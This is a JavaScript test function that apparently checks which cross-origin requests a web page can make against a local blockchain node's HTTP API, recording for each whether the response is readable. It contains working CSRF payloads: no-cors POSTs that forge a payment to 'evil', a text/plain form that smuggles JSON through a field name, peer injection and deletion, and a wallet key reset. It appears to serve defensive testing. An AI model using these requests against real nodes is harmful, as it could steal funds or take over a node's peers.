// attempts does what a web page can do to a node, and tells for each what came
// of it: "unreadable", or the status and the text that the page could read.
async function attempts(node, peer) {
	const outcomes = [];
	const note = async (name, attempt) => {
		let outcome;
		try {
			outcome = await attempt();
		} catch {
			outcome = "unreadable"; // the browser doesn't say more
		}
		outcomes.push(name + ": " + outcome);
	};
	const request = (method, path, options) => note(method + " " + path + " " + options.as, async () => {
		const answer = await fetch(node + path, {method, ...options});
		return answer.type === "opaque" ? "unreadable" : answer.status + " " + await answer.text();
	});
	const payment = JSON.stringify({recipient: "evil", amount: 1});
	const json = {"Content-Type": "application/json"};

	// What a page reads.
	for (const path of ["/wallet", "/balance", "/node", "/v1/peers", "/v1/mining", "/metrics", "/v1/status", "/chain"])
		await request("GET", path, {as: "read"});
	await request("GET", "/wallet", {as: "sent", mode: "no-cors"});
	await request("GET", "/wallet", {as: "with a token", headers: {Authorization: "Bearer guess"}});
	await request("HEAD", "/wallet", {as: "read"});

	// What a page sends without asking first, whether or not it may read the answer.
	await request("POST", "/transaction", {as: "text", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: payment});
	await request("POST", "/mine", {as: "sent", mode: "no-cors"});
	await request("POST", "/resolve_conflicts", {as: "sent", mode: "no-cors"});

	// What a browser asks for first.
	await request("POST", "/transaction", {as: "JSON", headers: json, body: payment});
	await request("POST", "/mine", {as: "read"});
	await request("POST", "/node", {as: "JSON", headers: json, body: JSON.stringify({node: "127.0.0.1:2"})});
	await request("POST", "/v1/peers", {as: "JSON", headers: json, body: JSON.stringify({address: "127.0.0.1:3"})});
	await request("DELETE", "/node/" + peer, {as: "read"});
	await request("DELETE", "/v1/peers/" + peer, {as: "read"});

	// What a page embeds.
	const embed = (tag, attributes) => new Promise(resolve => {
		const element = document.createElement(tag);
		element.onload = () => resolve(element);
		element.onerror = () => resolve(null);
		Object.assign(element, attributes);
		document.body.append(element);
	});
	for (const tag of ["img", "script"])
		await note("GET /wallet <" + tag + ">", async () => await embed(tag, {src: node + "/wallet"}) ? "loaded" : "unreadable");
	const shown = frame => frame.contentDocument ? "shown " + frame.contentDocument.body.innerText : "unreadable";
	await note("GET /wallet <iframe>", async () => shown(await embed("iframe", {src: node + "/wallet"})));

	// What a page sends as a form.
	const form = (path, name, value) => note("POST " + path + " <form>", async () => {
		const frame = await embed("iframe", {name: "target" + path, src: "about:blank"});
		const answered = new Promise(resolve => { frame.onload = resolve; });
		const sent = document.createElement("form");
		Object.assign(sent, {method: "POST", action: node + path, enctype: "text/plain", target: frame.name});
		const input = document.createElement("input");
		Object.assign(input, {name, value});
		sent.append(input);
		document.body.append(sent);
		sent.submit();
		await answered;
		return shown(frame);
	});
	await form("/mine", "a", "b");
	await form("/transaction", '{"recipient": "evil", "amount": 1, "a": "', '"}');

	await request("POST", "/wallet", {as: "sent", mode: "no-cors"}); // last, for it changes the key
	await request("POST", "/wallet", {as: "read"});
	return outcomes;
}
